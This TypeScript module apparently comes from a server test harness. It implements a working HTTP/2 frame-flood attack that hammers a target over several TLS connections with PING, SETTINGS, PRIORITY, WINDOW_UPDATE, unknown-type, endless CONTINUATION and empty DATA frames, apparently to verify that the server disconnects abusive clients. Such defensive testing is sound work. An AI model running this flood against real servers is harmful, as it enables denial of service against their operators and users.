import { drained } from "#lib/net/sockets.ts";
import { openTls, repeat } from "../lib/hostile.ts";
import { type Attack } from "./attack.ts";

const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))]);
/** `:method: POST`, `:scheme: https`, `:path: /`, each an entry of the static table. */
const headers = Buffer.from([0x83, 0x87, 0x84]);
const floods = [
  frame(6, 0, 0, Buffer.alloc(8)),
  frame(4, 0, 0, Buffer.from([0, 3, 0, 0, 0, 9])),
  frame(2, 0, 1, Buffer.from([0, 0, 0, 3, 9])),
  frame(8, 0, 0, Buffer.from([0, 0, 0, 1])),
  frame(200, 0, 0, Buffer.alloc(64)),
];
/** Endless headers, and empty DATA frames on a stream that stays open. */
const onStream = [
  { first: frame(1, 0, 1, headers), flood: frame(9, 0, 1, Buffer.from([0x40, 1, 0x61, 1, 0x62])) },
  { first: frame(1, 4, 1, headers), flood: frame(0, 0, 1, Buffer.alloc(0)) },
];
const attacks = [...floods.map((flood) => ({ first: Buffer.alloc(0), flood })), ...onStream];

export const attack: Attack = {
  name: "floods of HTTP/2 frames",
  claim: "disconnected after 64 KiB of frames per second",
  needs: "server",

  async run(target, signal) {
    let connections = 0;
    let bytes = 0;
    const attacker = (n: number): Promise<void> =>
      repeat(signal, async () => {
        const { first, flood: frames } = attacks[(n + connections++) % attacks.length] ?? {
          first: preface,
          flood: preface,
        };
        const socket = await openTls(target, "h2");
        socket.resume();
        socket.write(Buffer.concat([preface, first]));
        const many = Buffer.concat(Array.from({ length: 2000 }, () => frames));
        while (!signal.aborted && socket.writable) {
          bytes += many.length;
          if (!socket.write(many)) await drained(socket);
        }
        socket.destroy();
      });
    await Promise.all(Array.from({ length: 4 }, (_, n) => attacker(n)));
    return `${connections} connections closed after ${(bytes / connections / 1024).toFixed(0)} KiB on average`;
  },
};
